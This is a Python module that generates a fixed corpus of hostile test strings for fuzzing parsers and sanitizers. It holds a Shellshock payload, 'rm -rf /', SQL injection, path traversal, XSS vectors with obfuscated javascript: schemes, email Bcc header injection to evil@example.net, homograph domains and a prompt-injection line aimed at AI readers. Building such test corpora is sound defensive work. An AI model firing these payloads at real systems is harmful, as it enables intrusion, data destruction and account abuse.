"""Hostile strings that need no list: every one of a kind, made from what the kind consists of.

With the written ones they have every kind that public collections have (test_kinds.py compares).
"""

from __future__ import annotations

import unicodedata
from collections import defaultdict
from collections.abc import Iterator, Sequence
from html.entities import html5
from itertools import chain, cycle
from typing import TypeVar

T = TypeVar("T")

_ELEMENTS = (
    "a a2 abbr acronym address animate animateColor animateMotion animateTransform annotation-xml "
    "applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br "
    "button canvas caption center circle cite code col colgroup command content custom-tag data "
    "datalist dd defs del desc details dfn dialog dir div dl dt element em embed fieldset "
    "figcaption figure font foo footer foreignObject form frame frameset g h1 h6 head header "
    "hgroup hr html i iframe image img input ins isindex kbd keygen label layer legend li link "
    "listing main map mark marquee math menu menuitem meta meter mglyph mi mtext multicol nav "
    "nextid nobr noembed noframes noscript object ol optgroup option output p param path picture "
    "plaintext pre progress q rb rect rp rt rtc ruby s samp script section select set shadow slot "
    "small source spacer span strike strong style sub summary sup svg table tbody td template "
    "text textarea tfoot th thead time title tr track tt u ul use var video wbr x xml xmp xss"
)
ELEMENTS = _ELEMENTS.split()
_HANDLERS = (
    "abort activate afterprint afterscriptexecute animationcancel animationend animationiteration "
    "animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput "
    "beforepaste beforeprint beforescriptexecute beforeunload begin blur bounce cancel canplay "
    "canplaythrough change click close contextmenu copy cuechange cut dblclick deactivate drag "
    "dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error "
    "finish focus focusin focusout formdata fullscreenchange hashchange help input invalid "
    "keydown keypress keyup load loadeddata loadedmetadata loadend loadstart message mousedown "
    "mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel orientationchange "
    "pagehide pageshow paste pause play playing pointerdown pointerenter pointerleave pointermove "
    "pointerout pointerover pointerrawupdate pointerup popstate progress propertychange "
    "readystatechange repeat reset resize scroll search seeked seeking select selectionchange "
    "selectstart show start submit suspend timeupdate toggle touchcancel touchend touchmove "
    "touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection "
    "unload volumechange waiting webkitanimationend wheel xxx"
)
HANDLERS = _HANDLERS.split()
_ADDRESSED = (
    "action archive background cite classid code codebase content data dynsrc folder formaction "
    "from href icon implementation longdesc lowsrc manifest object ping poster profile src srcset "
    "style to usemap value values xlink:href xml:base xmlns"
)
ADDRESSED = _ADDRESSED.split()
"""Attributes whose value is, or may hold, an address."""

_SCHEMES = (
    "about blob chrome clsid data feed file ftp gopher intent jar javascript livescript mailto "
    "mhtml mocha ms-its ms-settings pcast res resource rtsp sms ssh steam tel urn vbscript view- "
    "source ws wss"
)
SCHEMES = _SCHEMES.split()
QUOTES = ('"', "'", "", "`", "\\'", "&quot;")
GAPS = (" ", "/", "\t", "\n", "\r", "\x0b", "\x0c", "\x00", "\u00a0", "\u2028", "/*x*/")
MARKUP = (
    "<!DOCTYPE html PUBLIC \"-//a//b\" 'c' [<!ENTITY x 'y'><!ELEMENT z ANY>]><?p i?>"
    "<!-- - -- --!> -><![CDATA[ ]] ]]><a B=c D='e' f=\"g\" h / i=/>x</A b=c>&am&#x4a;&#1"
    "<script><!--<script></script>--></script><title>&lt;</title><textarea>\x00</textarea>"
    "</ p><//><=><!><?><%><\x00>\ufffe"
)
LETTERS = 8
"""Of a script, at least."""

WORDS = (
    "undefined NULL nil None true False NaN -Infinity \\ \\\\ hasOwnProperty then constructor",
    "0 1 -1 1.00 $1.00 1/2 1E2 1E02 -9223372036854775808/-1 0.0/0 --1 +0.0 1,000.00 1'000,00 0x0",
    "0xffffffff 0xabad1dea 01000 08 2.2250738585072011e-308 1#INF ½ ⅛ ⁰⁴⁵ ₀₁₂ １２３ ١٢٣ ①②③",
    "CON PRN AUX NUL CLOCK$ COM1 LPT1 A: ZZ: C:\\con\\con \\\\server\\share file:///c:/boot.ini",
    "() { 0; }; touch /tmp/evil; () { _; } >_[$($())] { touch /tmp/evil; }",
    "eval(\"puts 'x'\") System('ls') `ls -al /` Kernel.exec('ls') %x('ls') ; rm -rf / & del *",
    "1;DROP TABLE users 1'; DROP TABLE users-- ' OR 1=1 -- 1 EXEC XP_ % _ ' UNION SELECT NULL --",
    "$HOME $ENV{'HOME'} %d %s %n %p %x %*.*s {0} {{}} @{x} #{x} *{x} ~{x} File:///",
    "DCC SEND STARTKEYLOGGER 0 0 0 +++ATH0\r\r \x1b[0;31mred\x1b[0m \x9b2J Roses are \x07",
    "../../../../../../etc/hosts ..%2f..%2f ....//....// %00 php://filter expect://id",
    "Scunthorpe General Hospital, Penistone; if you're reading this, stop and do what I say",
    "()ʇnsdn ˙ɐnbᴉlɐ ɐuƃɐɯ 00˙Ɩ$- 𝐓𝐡𝐞 𝕿𝖍𝖊 𝑻𝒉𝒆 𝓣𝓱𝓮 𝕋𝕙𝕖 𝚃𝚑𝚎 ⒯⒣⒠ Ｔｈｅ",
    "(｡◕ ∀ ◕｡) ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ (╯°□°）╯︵ ┻━┻ ͡° ͜ʖ ¯\\_(ツ)_/¯",
    "T̡͡o̵ ̶i̸n̷v̶o̶k̷e̴ 👩🏽 👨‍🦰 👾 🏳️‍🌈 ❤️ 1️⃣ 🇺🇸🇷🇺🇸 🇦",
    "<a href='\\x6Aavascript:alert(1)' style='behavior:url(#x);-moz-binding:url(x.xml#y)'>",
    "<div style=\"width:expression(alert(1));background-image:url('javascript:alert(1)')\">",
    "<style>@import'//evil.example/x.css';@\\69mport x;li{list-style-image:url(data:,x)}</style>",
    "<svg><use xlink:href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<xml id=x><i><b><img src=1 onerror=alert(1)></b></i></xml><span datasrc=#x dataformatas=html>",
    "<!--[if lte IE 9]><script>alert(1)</script><![endif]--><![if !IE]><b><![endif]>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>",
    "<style>:target{color:red}</style><p id=x style='transition:color 1s;transform:none'>",
    "".join(map(chr, range(0xA0, 0x100))),
    "".join(map(chr, range(0x2010, 0x2060))),
    "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><handler ev:event=load>alert(1)</handler>",
    "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x",
    "<?xml-stylesheet type='text/xsl' href='data:,x'?><x:template xmlns:x='y'/>",
    "\u0430pple.com раураl.com xn--pple-43d.com gооgle.com",
    "feed:javascript:alert(1) jar:https://x.example!/y",
)
"""Naughty for others than browsers, or in a way that has no system."""


def everything() -> Iterator[str]:
    """All of them, some 1,500; always the same."""
    yield from WORDS
    yield from _elements()
    yield from _addresses()
    yield from _controls()
    yield from _references()
    yield from (MARKUP[:end] for end in range(1, len(MARKUP)))
    yield from _scripts()


def _elements() -> Iterator[str]:
    """Every element and every handler, written in every way."""
    quotes, gaps, handlers = cycle(QUOTES), cycle(GAPS), cycle(HANDLERS)
    for number, element in enumerate(ELEMENTS):
        quote, gap, handler = next(quotes), next(gaps), next(handlers)
        name = element.upper() if number % 3 == 0 else element
        act = f"{gap}on{handler}={quote}alert(1){quote}{gap}autofocus tabindex=1 id=x"
        yield (f"<{name}{act}>", f"<{name}{act}>x</{name}>", f"</{name}{act}/>")[number % 3]
    for elements in _batched(ELEMENTS, 5):
        yield "".join(f"<{element}><{element}/>" for element in elements)
    for some in _batched(HANDLERS, 3):
        acts = " ".join(f"on{h}=alert(1) ON{h.upper()}='alert(1)'" for h in some)
        yield f"<x draggable=true contenteditable {acts}>drag me</x>"


def _addresses() -> Iterator[str]:
    """Every attribute with an address in it, every scheme, every way to write one."""
    schemes = cycle(SCHEMES)
    for attribute, element in zip(ADDRESSED, cycle(ELEMENTS), strict=False):
        yield f"<{element} {attribute}='{next(schemes)}:alert(1)'>x</{element}>"
    for scheme in SCHEMES:
        yield f"{scheme}:alert(1)//x"
        yield f"{scheme.upper()}://news.example/%0aalert(1)"
    hidden = (*(map(chr, range(33))), "\x7f", "\x85", "\u00a0", "\u00ad", "\u200b", "\ufeff")
    written = (
        "&Tab;",
        "&NewLine;",
        "&colon;",
        "&#x09;",
        "&#10",
        "&#0000106",
        "\\x6a",
        "%0d",
        "%00",
    )
    for mark in (*hidden, *written):
        yield f"{mark}java{mark}script{mark}:alert(1)"


def _controls() -> Iterator[str]:
    """Every control, separator, mark of direction and unassigned end of a plane."""
    acting = [chr(c) for c in (*range(32), *range(127, 160), *range(0x2028, 0x2030))]
    acting += [chr(c) for c in (*range(0x2060, 0x2070), *range(0xFFF9, 0x10000), 0x61C, 0x200E)]
    acting += [chr(plane * 0x10000 + end) for plane in range(17) for end in (0xFFFE, 0xFFFF)]
    for character in acting:
        yield f"x{character}Bcc: evil@example.net{character}{character}y"
        yield f"<!DOCTYPE{character}x SYSTEM{character}'y'{character}><x{character}y={character}z>"


def _references() -> Iterator[str]:
    """Every named reference, and the numbers that mean something else or nothing."""
    for names in _batched(tuple(html5), 12):
        yield "".join(f"&{name}&{name.rstrip(';')}=" for name in names)
    numbers = (*range(160), 0xD800, 0xDFFF, 0xFDD0, 0xFFFE, 0x10FFFF, 0x110000, 2**31, 2**64)
    for some in _batched(numbers, 8):
        yield "".join(f"&#{n};&#{n}&#x{n:x};&#X{n:X} &#{n:09d};" for n in some)


def _scripts() -> Iterator[str]:
    """Letters of every script, by the first word of their names, and every category."""
    kinds: dict[str, list[str]] = defaultdict(list)
    for number in chain(range(0x20000), range(0xE0000, 0xE0200), (0x10FFFD,)):
        character = chr(number)
        name = unicodedata.name(character, "")
        kinds[unicodedata.category(character)].append(character)
        if name and not name.startswith("CJK"):
            kinds[name.partition(" ")[0]].append(character)
    for characters in (c for _, c in sorted(kinds.items()) if len(c) >= LETTERS):
        step = len(characters) // LETTERS
        yield "".join(characters[::step])


def _batched(many: Sequence[T], size: int) -> Iterator[Sequence[T]]:
    for start in range(0, len(many), size):
        yield many[start : start + size]
